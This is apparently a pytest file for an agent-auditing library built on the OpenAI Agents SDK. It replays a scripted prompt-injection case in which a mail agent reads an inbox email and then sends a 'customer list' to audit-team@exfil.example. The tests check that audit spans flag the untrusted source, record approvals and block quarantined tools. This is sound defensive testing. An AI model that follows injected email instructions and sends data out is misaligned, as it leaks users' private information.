"""The injection scenario through the OpenAI Agents SDK's Runner, with its ScriptedModel."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from agents import Agent, RunConfig, Runner, handoff
from agents.items import ToolCallOutputItem
from opentelemetry.sdk.trace import TracerProvider

import agentaudit
from agentaudit.instrumentation import _version_check
from agentaudit.instrumentation import openai_agents as openai_agents_integration
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans, instrument_unsupported, quarantined
from tests.frameworks.openai_agents._scripted import (
    INSTRUCTIONS,
    ScriptedModel,
    email_text,
    function_call,
    gated_send_email,
    mail_agent,
    prompt_hash,
    read_inbox,
    script,
    send_email,
)


def _outputs(result: Any) -> list[Any]:
    return [item.output for item in result.new_items if isinstance(item, ToolCallOutputItem)]


def test_send_email_span_carries_the_injected_email_as_its_source(spans: Spans) -> None:
    model = script()
    agent = mail_agent(model)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        result = Runner.run_sync(
            agent, "Summarise my new email.", run_config=RunConfig(group_id="chat-42")
        )

    # the agent saw exactly what it would have seen uninstrumented
    assert _outputs(result) == [email_text(), "sent to audit-team@exfil.example"]
    assert result.final_output == "Done."

    attrs = spans.attributes("send_email")
    assert attrs[A.FRAMEWORK] == "openai_agents"
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.SESSION_ID] == "sess-1"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"  # the app's context wins
    assert attrs[A.GEN_AI_CONVERSATION_ID] == "chat-42"  # the SDK's group id
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_NONE
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
    trust = dict(zip(refs, attrs[A.SOURCE_TRUST], strict=True))  # type: ignore[call-overload]
    assert trust["tool:read_inbox#call_1"] == A.TRUST_UNTRUSTED
    second = model.calls[1]
    assert attrs[A.PROMPT_HASH] == prompt_hash(second.system_instructions, second.input)
    # the chat span of that model input carries the same hash
    chats = [dict(s.attributes or {}) for s in spans.of(A.OPERATION_CHAT)]
    assert [c[A.PROMPT_HASH] for c in chats] == [
        prompt_hash(call.system_instructions, call.input) for call in model.calls
    ]
    assert not spans.attributes("read_inbox").get(A.SOURCE_REFS)  # nothing registered yet
    assert model.calls[0].system_instructions == INSTRUCTIONS


def test_sdk_agent_name_and_trace_id_fill_what_the_context_leaves_open(spans: Spans) -> None:
    result = Runner.run_sync(mail_agent(script()), "Summarise my new email.")
    assert result.final_output == "Done."
    attrs = spans.attributes("send_email")
    assert attrs[A.GEN_AI_AGENT_ID] == attrs[A.GEN_AI_AGENT_NAME] == "Mail agent"
    assert str(attrs[A.GEN_AI_CONVERSATION_ID]).startswith("trace_")
    assert (
        attrs[A.GEN_AI_CONVERSATION_ID] == spans.attributes("read_inbox")[A.GEN_AI_CONVERSATION_ID]
    )


def test_tool_exception_is_recorded_and_the_model_sees_the_same_message(
    spans: Spans, provider: TracerProvider
) -> None:
    agentaudit.uninstrument()
    plain = Runner.run_sync(mail_agent(script(to="nobody@nowhere.example")), "Mail?")
    agentaudit.instrument(tracer_provider=provider, integrations=["openai_agents"])
    audited = Runner.run_sync(mail_agent(script(to="nobody@nowhere.example")), "Mail?")
    assert _outputs(audited) == _outputs(plain)
    assert "error" in str(_outputs(audited)[1]).lower()
    attrs = spans.attributes("send_email")
    assert attrs[A.ERROR_TYPE] == "ValueError"
    assert spans.tools("send_email")[0].status.status_code.name == "ERROR"


def test_needs_approval_tool_approved_through_the_interruption(spans: Spans) -> None:
    agent = mail_agent(script(), tools=[read_inbox, gated_send_email])
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        first = Runner.run_sync(agent, "Summarise my new email.")
        assert [item.tool_name for item in first.interruptions] == ["send_email"]
        assert spans.tools("send_email") == []  # not run before the approval
        state = first.to_state()
        state.approve(first.interruptions[0])
        with agentaudit.approval("alice"):
            second = Runner.run_sync(agent, state)
    assert second.final_output == "Done."
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert attrs[A.APPROVAL_APPROVER] == "alice"


def test_approval_without_an_approver_in_context_is_still_human(spans: Spans) -> None:
    agent = mail_agent(script(), tools=[read_inbox, gated_send_email])
    first = Runner.run_sync(agent, "Summarise my new email.")
    state = first.to_state()
    state.approve(first.interruptions[0])
    Runner.run_sync(agent, state)
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert A.APPROVAL_APPROVER not in attrs
    assert spans.attributes("read_inbox")[A.APPROVAL_STATUS] == A.APPROVAL_NONE


def test_handoff_is_context_not_a_tool_call(spans: Spans) -> None:
    mail = mail_agent(script())
    triage_model = ScriptedModel([[function_call("transfer_to_mail_agent", {}, call_id="call_0")]])
    triage = Agent(name="Triage", model=triage_model, handoffs=[handoff(mail)])
    result = Runner.run_sync(triage, "Summarise my new email.")
    assert result.final_output == "Done."
    assert sorted(str((s.attributes or {})[A.GEN_AI_TOOL_NAME]) for s in spans.tools()) == [
        "read_inbox",
        "send_email",
    ]
    assert spans.attributes("send_email")[A.GEN_AI_AGENT_NAME] == "Mail agent"


def test_two_sessions_interleaved_keep_separate_provenance(spans: Spans) -> None:
    async def session(name: str, folder: str) -> None:
        with agentaudit.context(agent="mail-assistant", user=f"user-{name}", session=name):
            await Runner.run(mail_agent(script(folder=folder)), "Summarise my new email.")

    async def both() -> None:
        await asyncio.gather(session("s-a", "inbox-a"), session("s-b", "inbox-b"))

    asyncio.run(both())
    sends = [dict(s.attributes or {}) for s in spans.tools("send_email")]
    assert sorted(str(a[A.SESSION_ID]) for a in sends) == ["s-a", "s-b"]
    for attrs in sends:
        assert attrs[A.ENDUSER_ID] == f"user-{attrs[A.SESSION_ID]}"
        refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
        assert refs == ["tool:read_inbox#call_1"]  # its own session's email only
    hashes = {a[A.SESSION_ID]: a[A.SOURCE_HASHES] for a in sends}
    assert hashes["s-a"] != hashes["s-b"]


def test_uninstrument_restores_the_sdk(spans: Spans) -> None:
    from agents.run import get_default_agent_runner

    original_tool = send_email.on_invoke_tool
    Runner.run_sync(mail_agent(script()), "Summarise my new email.")
    assert send_email.on_invoke_tool is not original_tool  # wrapped once it ran
    assert isinstance(get_default_agent_runner(), openai_agents_integration.AuditRunner)
    agentaudit.uninstrument()
    assert send_email.on_invoke_tool is original_tool
    assert not isinstance(get_default_agent_runner(), openai_agents_integration.AuditRunner)
    before = len(spans.all())
    result = Runner.run_sync(mail_agent(script()), "Summarise my new email.")
    assert result.final_output == "Done."
    assert len(spans.all()) == before


def test_version_gate_is_a_pure_function_of_the_version() -> None:
    from agentaudit.instrumentation.openai_agents.package import _supported

    assert _version_check.check_supported(_supported, "0.17.0")
    assert _version_check.check_supported(_supported, "0.24.0")
    assert _version_check.check_supported(_supported, "0.99.1")
    assert not _version_check.check_supported(_supported, "0.16.1")
    assert not _version_check.check_supported(_supported, "1.0.0")


def test_unsupported_installed_version_warns_once_and_patches_nothing(
    provider: object, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from agents.run import get_default_agent_runner

    original = get_default_agent_runner()
    instrument_unsupported(
        monkeypatch,
        caplog,
        integration="openai_agents",
        distribution="openai-agents",
        version="0.16.0",
    )
    assert get_default_agent_runner() is original
    assert not openai_agents_integration.instrumented()
    monkeypatch.undo()
    result = Runner.run_sync(mail_agent(script()), "Summarise my new email.")
    assert result.final_output == "Done."  # the agent runs, unaudited
    _ = send_email


def test_a_quarantined_agent_s_tool_call_is_refused_before_it_runs(spans: Spans) -> None:
    from agents.exceptions import UserError

    with (
        quarantined("send_email"),
        pytest.raises((agentaudit.AgentQuarantined, UserError)) as raised,
    ):
        Runner.run_sync(mail_agent(script()), "Summarise my new email.")
    # the SDK wraps a tool's exception in UserError; the cause is the refusal
    error: BaseException | None = raised.value
    while error is not None and not isinstance(error, agentaudit.AgentQuarantined):
        error = error.__cause__
    assert isinstance(error, agentaudit.AgentQuarantined)
    attrs = spans.attributes("send_email")
    assert attrs[A.DECISION] == A.DECISION_BLOCKED
    assert A.RESULT_HASH not in attrs


def test_streamed_run_is_audited_the_same_way(spans: Spans) -> None:
    model = script()

    async def main() -> str:
        with agentaudit.context(agent="mail-assistant", user="bob", session="sess-s"):
            streamed = Runner.run_streamed(mail_agent(model), "Summarise my new email.")
            async for _ in streamed.stream_events():
                pass
        return str(streamed.final_output)

    assert asyncio.run(main()) == "Done."
    attrs = spans.attributes("send_email")
    assert attrs[A.SESSION_ID] == "sess-s"
    second = model.calls[1]
    assert attrs[A.PROMPT_HASH] == prompt_hash(second.system_instructions, second.input)
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
    assert "tool:read_inbox#call_1" in refs
